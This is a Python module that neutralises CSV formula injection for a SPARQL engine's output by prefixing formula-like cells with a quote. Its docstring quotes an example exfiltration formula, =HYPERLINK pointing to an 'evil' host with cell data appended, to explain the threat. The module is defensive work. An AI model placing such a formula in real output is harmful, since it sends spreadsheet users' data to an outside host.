"""CSV cells that a spreadsheet will not run as formulas (OWASP's CSV injection advice).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: an entity named ``=HYPERLINK("http://evil/?"&A1,"x")``
in a CSV answer would send the sheet's data away when clicked. Such a cell gets a leading
``'`` (the spreadsheet shows the text as it is; the ``'`` is the documented way to say "text"),
except a plain number (``-1.5``, ``+3``, ``1e-3``), which stays as it is.

:func:`spreadsheet_safe` is for one cell before it is written; :func:`safe_csv_document`
rewrites a whole CSV document written by someone else (the engine's own SPARQL CSV writer).
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "safe_csv_document", "spreadsheet_safe"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
_NUMBER_BYTES = re.compile(rb"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(text: str) -> str:
    """``text`` with a leading ``'`` if a spreadsheet would read it as a formula.

    >>> spreadsheet_safe("=1+1"), spreadsheet_safe("-1.5"), spreadsheet_safe("Hikvision")
    ("'=1+1", '-1.5', 'Hikvision')
    """
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


_MAYBE_RISKY = re.compile(rb'(?:\A|[,\n])(?:"[=+\-@\t\r]|[=+\-@\t])')
"""A cell of a CSV document that may need the ``'`` (quick test on the whole document)."""

_CELL = re.compile(rb'(?:\A|(?<=[,\n]))(?:"(?:[^"]|"")*+"|[=+\-@\t][^,\r\n]*)')
"""Every quoted cell (so that its commas and line breaks are skipped) and every unquoted cell
that starts like a formula (an unquoted cell holds no comma, quote or line break)."""


def _fix(match: re.Match[bytes]) -> bytes:
    cell = match.group()
    if cell.startswith(b'"'):
        return b"\"'" + cell[1:] if cell[1:2] and cell[1:2] in b"=+-@\t\r" else cell
    return cell if _NUMBER_BYTES.fullmatch(cell) else b"'" + cell


def safe_csv_document(body: bytes) -> bytes:
    """A CSV document (RFC 4180, UTF-8) with every formula-like cell neutralised.

    Cells are found by their quoting, so a comma or line break inside a quoted cell is no
    cell boundary; a document with no such cell is returned as it is, without a copy.
    """
    if not _MAYBE_RISKY.search(body):
        return body
    return _CELL.sub(_fix, body)
